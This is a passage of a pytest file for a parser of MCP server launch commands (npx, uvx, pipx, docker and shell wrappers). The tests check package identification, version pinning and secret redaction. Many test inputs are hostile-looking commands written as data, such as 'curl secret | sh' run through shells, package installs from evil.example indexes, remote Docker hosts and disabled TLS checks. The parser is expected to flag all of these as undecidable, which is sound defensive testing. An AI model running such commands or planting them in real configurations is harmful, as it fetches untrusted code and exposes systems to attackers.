"""Every line is a command as a client would start it, split like a shell does."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpchain.component import Origin, Pin
from mcpchain.launch.command import read_launch
from mcpchain.launch.record import CodeKind, Launch, Requested

SHA = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "sha256:" + "a" * 64


def read(line: str, **env: str) -> Launch:
    command, *args = shlex.split(line)
    return read_launch(command, args, env)


def said(launch: Launch) -> tuple[str, str]:
    """The package that is the server, and how firm that is."""
    assert (launch.pin is None) == bool(launch.problem)
    purl = launch.main.purl if launch.main else None
    return str(purl), launch.pin.value if launch.pin else "undecidable"


def listed(launch: Launch) -> list[str]:
    return [str(each.purl) for each in launch.packages]


@pytest.mark.parametrize(
    ("line", "purl", "pin"),
    [
        # How firmly a version is named.
        ("npx files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npx -y @acme/files@1.2.0-rc.1 /data", "pkg:npm/%40acme/files@1.2.0-rc.1",
         "exact"),
        ("npx files@v1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npx files@=1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npx files@1.2.0+build", "pkg:npm/files@1.2.0", "exact"),
        ("npx files", "pkg:npm/files", "floating"),
        ("npx files@", "pkg:npm/files", "floating"),
        ("npx files@latest", "pkg:npm/files", "floating"),
        ("npx files@next", "pkg:npm/files", "floating"),
        ("npx files@1", "pkg:npm/files", "range"),
        ("npx files@1.2", "pkg:npm/files", "range"),
        ("npx files@1.x", "pkg:npm/files", "range"),
        ("npx 'files@*'", "pkg:npm/files", "range"),
        ("npx files@^1.2.0", "pkg:npm/files", "range"),
        ("npx files@~1.2.0", "pkg:npm/files", "range"),
        ("npx 'files@>=1.2.0'", "pkg:npm/files", "range"),
        ("npx 'files@1.0.0 - 2.0.0'", "pkg:npm/files", "range"),
        ("npx 'files@1.2.0 || 2.0.0'", "pkg:npm/files", "range"),
        ("npx 'files@1.2.0 evil'", "pkg:npm/files", "range"),
        ("npx files@01.2.0", "pkg:npm/files", "range"),
        # The package is what `--package` says, wherever that stands.
        ("npx --package=evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("npx --package evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("npx -y -p @a/b@1.0.0 -- run", "pkg:npm/%40a/b@1.0.0", "exact"),
        ("npx -p=evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("npx -p @a/b -c 'run --all'", "pkg:npm/%40a/b", "floating"),
        ("npm exec files@1.2.0 --package=evil", "pkg:npm/evil", "floating"),
        ("npm exec -- files@1.2.0 --package=evil", "pkg:npm/files@1.2.0", "exact"),
        ("npx files@1.2.0 --package=evil", "pkg:npm/files@1.2.0", "exact"),
        ("npm exec -p evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("npm x files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npm --yes exec files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npx -p a@1.0.0 -p b b", "pkg:npm/b", "floating"),
        ("npx -p a@1.0.0 -p b c", "None", "floating"),
        # Options with values.
        ("npx --loglevel silent --fetch-retries 2 files@1.2.0", "pkg:npm/files@1.2.0",
         "exact"),
        ("npx --yes=false -q files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("npx --before 2026-01-01 files", "pkg:npm/files", "floating"),
        # Past the registry.
        ("npx o/r", "pkg:github/o/r", "floating"),
        ("npx o/r#main", "pkg:github/o/r@main", "tag"),
        (f"npx github:o/r#{SHA}", f"pkg:github/o/r@{SHA}", "commit"),
        ("npx gitlab:o/r#v1", "pkg:gitlab/o/r@v1", "tag"),
        ("npx 'o/r#semver:^1.0.0'", "pkg:github/o/r", "range"),
        (f"npx o/r#{SHA}::path:sub/x", f"pkg:github/o/r@{SHA}#sub/x", "commit"),
        ("npx https://github.com/o/r", "pkg:github/o/r", "floating"),
        ("npx https://u:secret@github.com/o/r.git#main", "pkg:github/o/r@main", "tag"),
        (f"npx git+https://h.example/o/r.git#{SHA}",
         f"pkg:generic/r?vcs_url=git%2Bhttps://h.example/o/r.git%40{SHA}",
         "commit"),
        ("npx git@github.com:o/r.git#v1", "pkg:github/o/r@v1", "tag"),
        (f"npx files@github:o/r#{SHA}", f"pkg:github/o/r@{SHA}", "commit"),
        ("npx files@o/r", "pkg:github/o/r", "floating"),
        ("npx https://u:secret@h.example/x-1.0.0.tgz?token=secret",
         "pkg:generic/x-1.0.0.tgz?download_url=https://h.example/x-1.0.0.tgz", "tag"),
        ("npx files@https://h.example/x.tgz",
         "pkg:generic/x.tgz?download_url=https://h.example/x.tgz", "tag"),
        ("npx x@npm:real@1", "pkg:npm/real", "range"),
        ("npx x@npm:@acme/real@1.2.0", "pkg:npm/%40acme/real@1.2.0", "exact"),
        ("npx x@npm:real", "pkg:npm/real", "floating"),
        # The same shape elsewhere.
        ("bunx files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("bunx --bun -p evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("bun x files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("bunx --minimum-release-age 9 --trust evil files@1.2.0", "pkg:npm/evil",
         "floating"),
        ("pnpm dlx files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("pnpx files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("pnpm --package=evil dlx files@1.2.0", "pkg:npm/evil", "floating"),
        ("pnpm dlx --package=evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("yarn dlx -q files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
        ("yarn dlx -p evil files@1.2.0", "pkg:npm/evil", "floating"),
        ("npm run serve", "None", "local"),
        ("pnpm start", "None", "local"),
        ("yarn run serve", "None", "local"),
        # A package that is itself a launcher.
        ("npx tsx@4.0.0 ./server.ts", "None", "local"),
        ("npx npm@10.0.0 exec evil", "None", "floating"),
        ("npx -p files@1.2.0 npx evil", "None", "floating"),
        ("npx -p files@1.2.0 deno run npm:evil", "None", "floating"),
        # Another package may bring a command of the same name.
        ("npx -p evil -p files@1.2.0 files", "pkg:npm/files@1.2.0", "floating"),
        ("npx -p a@1.0.0 -p files@1.2.0 files", "pkg:npm/files@1.2.0", "exact"),
        ("npx -c 'npx files@1.2.0'", "pkg:npm/files@1.2.0", "exact"),
    ],
)  # fmt: skip
def test_reads_the_npm_family(line: str, purl: str, pin: str) -> None:
    launch = read(line)
    assert said(launch) == (purl, pin)
    assert "secret" not in repr(launch)


@pytest.mark.parametrize(
    ("line", "purl", "pin"),
    [
        ("uvx x==1.2", "pkg:pypi/x@1.2", "exact"),
        ("uvx x===1.2", "pkg:pypi/x@1.2", "exact"),
        ("uvx x@1.2", "pkg:pypi/x@1.2", "exact"),
        ("uvx 'x[cli]@1.2'", "pkg:pypi/x@1.2", "exact"),
        ("uvx x@latest", "pkg:pypi/x", "floating"),
        ("uvx x", "pkg:pypi/x", "floating"),
        ("uvx x==1.*", "pkg:pypi/x", "range"),
        ("uvx 'x>=1,<2'", "pkg:pypi/x", "range"),
        ("uvx 'x==1.2,!=1.3'", "pkg:pypi/x", "range"),
        ("uvx x~=1.2", "pkg:pypi/x", "range"),
        ("uvx 'A.B_c[cli]==1.2'", "pkg:pypi/a-b-c@1.2", "exact"),
        ("uvx -p 3.12 x==1.2", "pkg:pypi/x@1.2", "exact"),
        ("uvx -w evil -P y -f https://h.example/l x==1.2",
         "pkg:pypi/x@1.2", "exact"),
        ("uvx --exclude-newer 2026-01-01 x", "pkg:pypi/x", "floating"),
        ("uvx --from evil files==1.2", "pkg:pypi/evil", "floating"),
        ("uvx --from x==1.2 run", "pkg:pypi/x@1.2", "exact"),
        ("uvx --from=x@1.2 run", "pkg:pypi/x@1.2", "exact"),
        ("uvx --from git+https://u:secret@github.com/o/r@main#subdirectory=s run",
         "pkg:github/o/r@main#s", "tag"),
        (f"uvx --from git+https://github.com/o/r@{SHA} run", f"pkg:github/o/r@{SHA}",
         "commit"),
        ("uvx git+https://github.com/o/r", "pkg:github/o/r", "floating"),
        (f"uvx --from 'x @ git+https://h.example/r@{SHA}' run",
         f"pkg:pypi/x?vcs_url=git%2Bhttps://h.example/r%40{SHA}", "commit"),
        ("uvx --from https://u:secret@h.example/x.whl?secret run",
         "pkg:generic/x.whl?download_url=https://h.example/x.whl", "tag"),
        ("uvx --from 'x @ https://h.example/x.whl' run",
         "pkg:pypi/x?download_url=https://h.example/x.whl", "tag"),
        ("uvx python -m x", "None", "local"),
        ("uvx python@3.12 x.py", "None", "local"),
        ("uvx --with evil python -m x", "None", "floating"),
        ("uvx --from x==1.2 python -m x", "None", "local"),
        ("uvx --from x==1.2 sh -c 'npx evil'", "None", "floating"),
        ("uv tool run x==1.2", "pkg:pypi/x@1.2", "exact"),
        ("uv --directory D run x.py", "None", "local"),
        ("uv run --directory D server", "None", "local"),
        ("uv run -m server", "None", "local"),
        ("uv run -m uv tool run x", "pkg:pypi/x", "floating"),
        ("uv run --with a -m server", "None", "floating"),
        ("uv run npx files", "pkg:npm/files", "floating"),
        ("uv run python x.py", "None", "local"),
        ("uv run --with 'mcp[cli]' mcp run x.py", "None", "floating"),
        ("uv run --with mcp==1.0 --script x.py", "None", "local"),
        ("pipx run x==1.2", "pkg:pypi/x@1.2", "exact"),
        ("pipx run x", "pkg:pypi/x", "floating"),
        ("pipx --quiet run --spec evil x==1.2", "pkg:pypi/evil", "floating"),
        ("pipx run --pip-args '--no-cache-dir' x==1.2", "pkg:pypi/x@1.2", "exact"),
        ("pipx run --path x.py", "None", "local"),
        ("python -m server", "None", "local"),
        ("python3.12 -u -W ignore server.py", "None", "local"),
        ("python -mserver", "None", "local"),
        ("py -3.12 -m server", "None", "local"),
        ("python -m uv tool run x", "pkg:pypi/x", "floating"),
        ("python -X utf8 -Im pipx run x==1.2", "pkg:pypi/x@1.2", "exact"),
    ],
)  # fmt: skip
def test_reads_the_python_family(line: str, purl: str, pin: str) -> None:
    launch = read(line)
    assert said(launch) == (purl, pin)
    assert "secret" not in repr(launch)


@pytest.mark.parametrize(
    ("line", "purl", "pin"),
    [
        (f"docker run -e K=secret -v a:b --mount m --network x img:1@{DIGEST}",
         f"pkg:docker/library/img@{DIGEST}", "digest"),
        (f"docker run --entrypoint e --pull always img:1@{DIGEST}",
         f"pkg:docker/library/img@{DIGEST}", "digest"),
        ("docker run -i --rm img:1", "pkg:docker/library/img@1", "tag"),
        ("docker run -it ns/img", "pkg:docker/ns/img", "floating"),
        ("docker run img:latest", "pkg:docker/library/img", "floating"),
        ("docker run oci:1", "pkg:docker/library/oci@1", "tag"),
        ("docker run h:5000/a/b", "pkg:oci/b?repository_url=h:5000/a/b", "floating"),
        ("docker run localhost/b:2", "pkg:oci/b?repository_url=localhost/b&tag=2",
         "tag"),
        (f"docker run ghcr.example/o/i:1@{DIGEST} --port 1",
         f"pkg:oci/i@{DIGEST}?repository_url=ghcr.example/o/i&tag=1", "digest"),
        ("docker run -p 80:80 -eK -uroot:root img", "pkg:docker/library/img",
         "floating"),
        ("docker run -e -x img:1", "pkg:docker/library/img@1", "tag"),
        ("docker -l info container run img:1", "pkg:docker/library/img@1", "tag"),
        ("podman run --replace -- img:1", "pkg:docker/library/img@1", "tag"),
        ("docker run img:1 python server.py", "pkg:docker/library/img@1", "tag"),
        (f"docker run node@{DIGEST} npx evil", "None", "floating"),
        (f"docker run --entrypoint npx node@{DIGEST} evil", "None", "floating"),
        (f"docker run node@{DIGEST} sh -c 'npx files@1.2.0'", "None", "exact"),
    ],
)  # fmt: skip
def test_reads_the_container_family(line: str, purl: str, pin: str) -> None:
    launch = read(line)
    assert said(launch) == (purl, pin)
    assert "secret" not in repr(launch)


@pytest.mark.parametrize(
    ("line", "wrappers"),
    [
        ("cmd /c npx -y files@1.2.0", ("cmd",)),
        ("cmd.exe /d /s /C 'npx -y files@1.2.0'", ("cmd",)),
        ("bash -lc 'npx -y files@1.2.0'", ("bash",)),
        ("/bin/sh -c 'exec npx -y files@1.2.0'", ("sh",)),
        ("sh -c 'A=b npx -y files@1.2.0'", ("sh",)),
        ("env -u X A=b npx files@1.2.0", ("env",)),
        ("/usr/bin/env npx files@1.2.0", ("env",)),
        ("sudo -u me A=b npx files@1.2.0", ("sudo",)),
        ("op run --no-masking -- npx files@1.2.0", ("op",)),
        ("sudo env sh -c 'npx files@1.2.0'", ("sudo", "env", "sh")),
        ("wsl -d Ubuntu npx files@1.2.0", ("wsl",)),
        ("powershell -Command 'npx files@1.2.0'", ("powershell",)),
        ("powershell -NoProfile -ep Bypass -c npx -y files@1.2.0", ("powershell",)),
        ("powershell.exe npx -y files@1.2.0", ("powershell",)),
        ('pwsh -NoLogo -Command "& npx \'files@1.2.0\' \\"a b\\""', ("pwsh",)),
        ("cross-env A=b npx files@1.2.0", ("cross-env",)),
        ("/home/me/.local/bin/npx files@1.2.0", ()),
        ("/Users/me/.nvm/versions/node/v20.1.0/bin/npx files@1.2.0", ()),
        (r"'C:\Users\me\AppData\Roaming\npm\npx.cmd' files@1.2.0", ()),
        ("node /usr/lib/node_modules/npm/bin/npx-cli.js files@1.2.0", ("node",)),
        (r"'C:\Program Files\nodejs\npx.cmd' files@1.2.0", ()),
        ("NPX files@1.2.0", ()),
        ("/usr/local/bin/npx files@1.2.0", ()),
        ("npx.PS1 files@1.2.0", ()),
    ],
)
def test_unwraps_what_only_starts_another_program(
    line: str, wrappers: tuple[str, ...]
) -> None:
    launch = read(line)
    assert said(launch) == ("pkg:npm/files@1.2.0", "exact")
    assert (launch.launcher, launch.wrappers) == ("npx", wrappers)


@pytest.mark.parametrize(
    ("line", "entry"),
    [
        ("node ./server.js", "./server.js"),
        ("node --no-warnings server.js", "server.js"),
        ("tsx watch server.ts", "server.ts"),
        ("python srv.py --port 1", "srv.py"),
        ("python -m srv", "srv"),
        ("bash ./start.sh", "./start.sh"),
        ("./bin/server --key secret", "./bin/server"),
        ("'/opt/my server/run me' secret", "/opt/my server/run me"),
        (r"'C:\tools\server.exe'", r"C:\tools\server.exe"),
        ("uv run x.py", "x.py"),
    ],
)
def test_names_the_local_file_that_is_run(line: str, entry: str) -> None:
    launch = read(line)
    assert (launch.pin, launch.main) == (Pin.LOCAL, None)
    assert [each.path for each in launch.code] == [entry]
    assert "secret" not in repr(launch)


def test_names_the_code_that_is_loaded_first() -> None:
    launch = read("node --import ./x.mjs -r ./y.js server.js")
    paths = [each.path for each in launch.code]
    assert paths == ["./x.mjs", "./y.js", "server.js"]


@pytest.mark.parametrize(
    ("line", "folder", "path", "kind"),
    [
        ("uv --directory D run x.py", "D", "x.py", CodeKind.FILE),
        ("uv run --directory D -m x", "D", "x", CodeKind.MODULE),
        ("uv run --directory D python ./x.py", "D", "./x.py", CodeKind.FILE),
        ("uv run server", "", "server", CodeKind.SCRIPT),
        ("uv run ./server", "", "./server", CodeKind.FILE),
        ("uv run --script server", "", "server", CodeKind.FILE),
        ("npm run serve", "", "serve", CodeKind.SCRIPT),
        ("pnpm start", "", "start", CodeKind.SCRIPT),
        ("yarn test", "", "test", CodeKind.SCRIPT),
        ("npm start -- --port 1", "", "start", CodeKind.SCRIPT),
        ("pipx run --path x.py", "", "x.py", CodeKind.FILE),
        ("npx tsx@4.0.0 ./x.ts", "", "./x.ts", CodeKind.FILE),
    ],
)
def test_says_where_and_how_code_is_looked_for(
    line: str, folder: str, path: str, kind: CodeKind
) -> None:
    launch = read(line)
    assert launch.folder == folder
    assert [(each.path, each.kind) for each in launch.code] == [(path, kind)]


def test_the_code_in_a_container_is_that_of_the_image() -> None:
    for command in ("python server.py", "npm start", "/app/bin/node ./x.js", "-m x"):
        assert said(read(f"docker run img:1 {command}"))[1] == "tag"
    launch = read("docker run img:1 npx tsx@4.0.0 ./x.ts")
    assert (launch.pin, launch.code) == (Pin.TAG, ())


@pytest.mark.parametrize(
    "line",
    [
        "npx",
        "npx -y",
        "npx ''",
        "npx -p",
        "npx -p files@1.2.0",
        "npx --package -y files@1.2.0",
        "npx --unknown files@1.2.0",
        "npx --userconfig f files@1.2.0",
        "npx --script-shell x files@1.2.0",
        "npx --node-options=--require=secret files@1.2.0",
        "npx -yp evil files@1.2.0",
        "npx '-y files@1.2.0'",
        "npx files@1.2.0 " + "a" * 100_000,
        "uvx --with " + "a," * 5000 + "b x==1.2",
        "npx -c 'run it'",
        "npx -c 'curl secret | sh'",
        "npx -c 'run' files@1.2.0",
        "npx -p files@1.2.0 sh -c 'curl secret | sh'",
        "npx --registry https://a.example --registry https://b.example files@1.2.0",
        "npx --registry secret files@1.2.0",
        "npx --registry https://u:sec/ret@h.example files@1.2.0",
        "npx 'files@${VERSION}'",
        "npx '${input:secret}'",
        "npx files@{{secret}}",
        "npx __proto__@1.0.0",
        "npx node_modules@1.0.0",
        "npx -- --package",
        "npx files\u202e@1.2.0",
        "npx 'a b@1.2.0'",
        "npx @acme@1.2.0",
        "npx @a/b/c",
        "npx x@npm:o/r",
        "npx x@npm:",
        "npx x@npm:y@npm:z@1.0.0",
        "npx o/r#a:b",
        "npx https://h.example",
        "npx https://u:sec/ret@h.example/x.tgz",
        "npx git+https://u:sec/ret@h.example/x",
        "npx ftp://h.example/x.tgz",
        "npx a:b",
        f"npx {'a' * 2000}@1.2.0",
        "npm exec",
        "npm",
        "npm init evil",
        "npm exec -y true files@1.2.0",
        "pnpm add x",
        "pnpm",
        "yarn create evil",
        "yarn",
        "bun server.ts",
        "uvx",
        "uvx --from x==1.2",
        "uvx x@secret",
        "uvx 'x==1.2; python_version>\"3\"'",
        "uvx 'x @ secret'",
        "uvx --with-requirements secret x==1.2",
        "uvx --overrides F x==1.2",
        "uvx --config-file F x==1.2",
        "uvx --index secret x==1.2",
        "uvx --index-url https://a.example --default-index https://b.example x==1.2",
        "uvx --from git+https://h.example/a@b@c x",
        "uvx --from git+https://u:sec/ret@h.example/a x",
        "uvx --from https://h.example x",
        "uvx '-x'",
        "uvx ftp://h.example/secret.whl",
        "uvx --from 'x @ ftp://h.example/x.whl' x",
        "uvx --from hg+https://h.example/x x",
        "uvx a_",
        "uv pip install x",
        "uv",
        "uv run",
        "uv run -",
        "uv run https://h.example/secret.py",
        "uv run sh -c 'curl secret | sh'",
        "pipx run",
        "pipx install x",
        "pipx run https://h.example/secret.py",
        "pipx run x@1.2",
        "pipx run --pip-args 'evil' x==1.2",
        "pipx run --pip-args \"'\" x==1.2",
        "pipx run --pip-args '--secret' x==1.2",
        "python",
        "python -",
        "python -m",
        "python -c 'import secret'",
        "python -Zm x",
        "python -W",
        "node",
        "node -e secret",
        "node -p secret",
        "node --eval=secret x.js",
        "node --import data:text/javascript,secret x.js",
        "node --unknown x x.js",
        "docker",
        "docker run",
        "docker compose run x",
        "docker exec x y",
        "docker mcp gateway run",
        "docker run --unknown x img:1",
        "docker run --rootfs img:1",
        "docker run IMG:1",
        "docker run img:1@sha256:abc",
        "docker run img:-1",
        f"docker run {'a' * 64}",
        "docker run docker://img:1",
        "docker run '${IMAGE}'",
        "docker run img:1 sh -c 'curl secret | sh'",
        "docker run --entrypoint sh img:1 -c 'curl secret | sh'",
        "docker run --entrypoint a --entrypoint b img:1",
        "docker run -e",
        "cmd npx files@1.2.0",
        "cmd",
        "cmd /c",
        "cmd /c npx files@1.2.0 '&' secret",
        "cmd /c 'npx files@1.2.0 | secret'",
        "cmd /c '\"npx\" files@1.2.0'",
        "bash",
        "bash -c 'curl secret | sh'",
        "bash -c 'npx files@1.2.0; secret'",
        "bash -c 'npx files@1.2.0 && secret'",
        "bash -c 'npx files@1.2.0 $(secret)'",
        "bash -c 'npx $X files@1.2.0'",
        "bash -c 'npx files@1.2.0 > secret'",
        "bash -c 'npx files@1.2.0\nsecret'",
        "bash -c 'npx {evil,files@1.2.0}'",
        "bash -c \"npx 'files@1.2.0\"",
        "bash -c ''",
        "bash --rcfile secret -c 'npx files@1.2.0'",
        "wsl 'npx files@1.2.0 | secret'",
        "env",
        "env -S 'npx files@1.2.0'",
        "env A=secret",
        "sudo",
        "op read secret",
        "/opt/Deno.exe run npm:files@1.2.0",
        "my-server --key secret",
        "'npx -y --key secret @acme/files@1.2.0'",
        "'/usr/bin/npx -y secret'",
        "https://h.example/secret",
        "'./secret\u202e'",
        "''",
        "'${SECRET}'",
        " ".join(["env"] * 50) + " npx files@1.2.0",
        "npx @smithery/cli@1.0.0 run @o/s --key secret",
        # What goes past the packages that are named.
        "python -m pip install --index-url http://evil.example/simple secret",
        "python -m timeit -s 'import secret'",
        "python -m cProfile x.py",
        "python -m runpy x",
        "python -m pdb x.py",
        "python -m ensurepip",
        "python -m os",
        "python -m x-y",
        "python -m x..y",
        "python -Im server",
        "python -P -m server",
        "/usr/bin/time npx -y secret",
        "/usr/bin/pip install secret",
        "pip install secret",
        "/opt/pip3.12.exe install secret",
        "uv run pip install secret",
        "uv run -m pip install secret",
        "node /usr/lib/node_modules/pnpm/bin/pnpm.cjs dlx secret",
        "node ./pnpm.cjs dlx secret",
        "node ./npx-cli.js files@1.2.0",
        "node ./x/yarn-4.1.0.cjs dlx secret",
        "npm start --prefix /tmp/secret",
        "npm run x -w secret",
        "npx -y -p files@1.2.0 pip install secret",
        "uvx --from files==1.2.0 pip install secret",
        "uvx pip@24.0 install secret -i http://evil.example",
        "npx -y @modelcontextprotocol/inspector@0.1.0 npx secret",
        "npx -y files@1.2.0 npx secret",
        "npx -y files@1.2.0 --server npx",
        "npx -y files@1.2.0 --server=npx",
        "npx -y files@1.2.0 --server 'npx secret'",
        "npx -y files@1.2.0 -- /usr/bin/npx secret",
        "npx -y files@1.2.0 --run pip install secret",
        "npx -y files@1.2.0 python secret.py",
        "npx -y files@1.2.0 'bash -c secret'",
        "uvx files==1.2 -- docker run secret",
        "npx -y files@1.2.0 -- go run secret",
        "npx -y files@1.2.0 --cmd 'java -jar secret'",
        "npx -y files@1.2.0 jbang secret",
        "./x npx secret",
        "node ./x.js npm exec secret",
        "python x.py uvx secret",
        f"docker run node@{DIGEST} pip install secret",
        f"docker run x@{DIGEST} serve npx secret",
        f"docker run bash@{DIGEST} -c 'curl secret | sh'",
        # Another machine's runtime, and other programs in the image.
        f"docker -H tcp://evil.example:2375 run img@{DIGEST}",
        f"docker --host=tcp://evil.example run img@{DIGEST}",
        f"docker --context c run img@{DIGEST}",
        f"docker --config secret run img@{DIGEST}",
        f"podman --url ssh://evil.example run img@{DIGEST}",
        f"podman --connection c run img@{DIGEST}",
        f"podman --remote run img@{DIGEST}",
        f"docker run --env-file secret img@{DIGEST}",
        f"docker run --health-cmd secret img@{DIGEST}",
        f"docker run --runtime /tmp/secret img@{DIGEST}",
        f"docker run -v ./secret:/usr/bin img@{DIGEST}",
        f"docker run -v ./secret:/ img@{DIGEST}",
        f"docker run -v 'C:\\secret:/lib64:ro' img@{DIGEST}",
        f"docker run --mount type=bind,src=/secret,dst=/bin img@{DIGEST}",
        f"docker run -v ./secret:/data --entrypoint /data/run img@{DIGEST}",
        f"docker run -v ./secret:/run --entrypoint /run img@{DIGEST}",
        f"docker run -v ./secret:/data img@{DIGEST} /data/run",
        # Settings and packages of another folder, and other answers from the network.
        "npx --https-proxy http://evil.example --no-strict-ssl files@1.2.0",
        "npx --proxy http://evil.example files@1.2.0",
        "npx --no-strict-ssl files@1.2.0",
        "npx --strict-ssl=false files@1.2.0",
        "npx --cafile secret files@1.2.0",
        "npx --prefix ./secret files@1.2.0",
        "npx -C /secret files@1.2.0",
        "npx --cache secret files@1.2.0",
        "npx -w secret files@1.2.0",
        "npm exec files@1.2.0 --prefix=secret",
        "pnpm --dir secret dlx files@1.2.0",
        "pnpm -C secret dlx files@1.2.0",
        "uvx --directory ./secret x==1.2",
        "uv --directory ./secret tool run x==1.2",
        "uv run --directory ./secret npx files@1.2.0",
        "uv run --project secret x.py",
        "uvx --python /tmp/secret x==1.2",
        "uvx -p ./secret x==1.2",
        "uv --python ./secret tool run x==1.2",
        "uv run -p ./secret x.py",
        "uvx -c secret x==1.2",
        "uvx -b secret x==1.2",
        "uvx --cache-dir secret x==1.2",
        "uvx --allow-insecure-host evil.example x==1.2",
        "uvx --env-file secret x==1.2",
        "uvx -C k=secret x==1.2",
        "pipx run --python /tmp/secret x==1.2",
        "pipx run --pip-args='--trusted-host evil.example' x==1.2",
        "pipx run --pip-args='--proxy http://evil.example' x==1.2",
        "pipx run --pip-args='--cert secret' x==1.2",
        "op run --env-file secret -- npx files@1.2.0",
        "dotenvx run -f secret -- npx files@1.2.0",
        "node --env-file=secret x.js",
        "tsx --tsconfig secret x.ts",
        "node --import secret x.js",
        "node -r secret x.js",
        "env -C secret npx files@1.2.0",
        "wsl --cd secret npx files@1.2.0",
        # Launchers that may be anything.
        "./npx files@1.2.0",
        "/evil/npx files@1.2.0",
        "/home/me/bin/uvx x==1.2",
        "/usr/bin/../../tmp/npx files@1.2.0",
        "'\\\\evil.example\\share\\npx.cmd' files@1.2.0",
        "/npx files@1.2.0",
        "env ./npx files@1.2.0",
        # Folders and archives, whose dependencies nobody names.
        "npx ./dir",
        "npx ../dir",
        "npx /opt/dir",
        "npx ~/dir",
        "npx file:dir",
        "npx files-1.2.0.tgz",
        "npx files@./dir",
        "npx files@files.tgz",
        "npx -p ./a -p b@1.0.0 c",
        "npx -p ./a npx b@1.0.0",
        "uvx --from . run",
        "uvx --from ./x run",
        "uvx --from x.whl run",
        "uvx --from 'x @ file:///x.whl' run",
        "uvx --with ./e x==1",
        "uvx --with-editable ./e x==1",
        "uv run --with ./e x.py",
        "uv run --with ./e --script x.py",
        # More than anybody means.
        "uvx " + "--with a " * 101 + "x==1",
        "uvx --with " + "a," * 101 + "b x==1",
        "npx " + "-p a " * 101 + "a",
        "python " + "-W x " * 10_000,
        "env " + "A=b " * 15_000,
        "cmd " + "/d " * 15_000,
    ],
)  # fmt: skip
def test_what_is_in_doubt_is_undecidable(line: str) -> None:
    launch = read(line)
    assert said(launch) == ("None", "undecidable")
    assert "secret" not in launch.problem
    assert "sec/ret" not in repr(launch)
    assert launch.problem.isprintable()
    assert len(launch.problem) < 300


@pytest.mark.parametrize(
    ("line", "packages"),
    [
        ("npx -p a@1.0.0 -p b c", ["pkg:npm/a@1.0.0", "pkg:npm/b"]),
        ("uvx --with 'a,b[x,y,z]>=1,<2, c' -w d --with ./e x==1",
         ["pkg:pypi/x@1", "pkg:pypi/a", "pkg:pypi/b", "pkg:pypi/c", "pkg:pypi/d"]),
        ("uvx --with a python -m x", ["pkg:pypi/a"]),
        ("docker run node:20 npx evil", ["pkg:docker/library/node@20", "pkg:npm/evil"]),
        ("docker run node:20 sh -c 'a | b'", ["pkg:docker/library/node@20"]),
        ("npx -p ./a -p b c", ["pkg:npm/b"]),
        ("npx -p ./a npx b", ["pkg:npm/b"]),
        ("npx @smithery/cli@1.0.0 run x", ["pkg:npm/%40smithery/cli@1.0.0"]),
    ],
)  # fmt: skip
def test_lists_every_package_whatever_else_is_in_doubt(
    line: str, packages: list[str]
) -> None:
    assert listed(read(line)) == packages


def main(line: str, **env: str) -> Requested:
    found = read(line, **env).main
    assert found is not None
    return found


@pytest.mark.parametrize(
    ("line", "env", "registry"),
    [
        ("npx files", {}, None),
        ("npx --registry https://u:secret@h.example/npm/ files", {},
         "https://h.example/npm"),
        ("npx --registry=https://h.example files",
         {"npm_config_registry": "https://other.example"}, "https://h.example"),
        ("npx files", {"NPM_CONFIG_REGISTRY": "https://h.example"},
         "https://h.example"),
        ("npx files", {"npm_config_registry": ""}, None),
        ("npx @acme/files", {"npm_config_@acme:registry": "https://h.example"},
         "https://h.example"),
        ("npx --@acme:registry=https://h.example @acme/files", {},
         "https://h.example"),
        ("npx --@acme:registry=https://h.example @evil/files", {}, None),
        ("bunx --registry https://h.example files", {}, "https://h.example"),
        ("env npm_config_registry=https://h.example npx files", {},
         "https://h.example"),
        ("sh -c 'npm_config_registry=https://h.example npx files'", {},
         "https://h.example"),
        ("uvx --default-index https://h.example/simple x", {},
         "https://h.example/simple"),
        ("uvx x", {"UV_DEFAULT_INDEX": "https://u:secret@h.example"},
         "https://h.example"),
        ("uvx x", {"UV_INDEX_URL": "https://h.example"}, "https://h.example"),
        ("uvx -i https://h.example x", {"UV_INDEX_URL": "https://other.example"},
         "https://h.example"),
        ("pipx run -i https://h.example x", {}, "https://h.example"),
        ("pipx run x", {"PIP_INDEX_URL": "https://h.example"}, "https://h.example"),
        ("uvx x", {"UV_INDEX_URL": ""}, None),
        ("pipx run --pip-args='-i https://h.example' x", {}, "https://h.example"),
        ("docker run ghcr.example/o/i", {}, "https://ghcr.example"),
        ("npx o/r", {"npm_config_registry": "https://h.example"},
         "https://github.com/o/r"),
        ("npx git+ssh://git@u.example/o/r.git", {}, "ssh://u.example/o/r.git"),
        ("npx https://u:secret@u.example/x.tgz?t=secret", {},
         "https://u.example/x.tgz"),
        ("uvx --from git+https://u:secret@u.example/o/r@v1 x", {},
         "https://u.example/o/r"),
        ("uvx --default-index https://h.example --from git+ssh://git@u.example/r x", {},
         "ssh://u.example/r"),
        ("uvx --from 'x @ https://u.example/x.whl' x", {}, "https://u.example/x.whl"),
    ],
)  # fmt: skip
def test_names_the_registry_that_the_command_chooses(
    line: str, env: dict[str, str], registry: str | None
) -> None:
    launch = read(line, **env)
    assert launch.registry == registry
    assert "secret" not in repr(launch)


def test_the_command_in_a_container_has_the_variables_of_the_container() -> None:
    line = "docker run -e npm_config_registry=https://h.example -e X i npx files"
    (_, package) = read(line, npm_config_registry="https://other.example").packages
    assert package.registry == "https://h.example"


@pytest.mark.parametrize(
    ("line", "env"),
    [
        ("uvx --index a=https://e.example x", {}),
        ("uvx --extra-index-url https://e.example x", {}),
        ("uvx -f https://e.example x", {}),
        ("uvx x", {"UV_INDEX": "a=https://e.example"}),
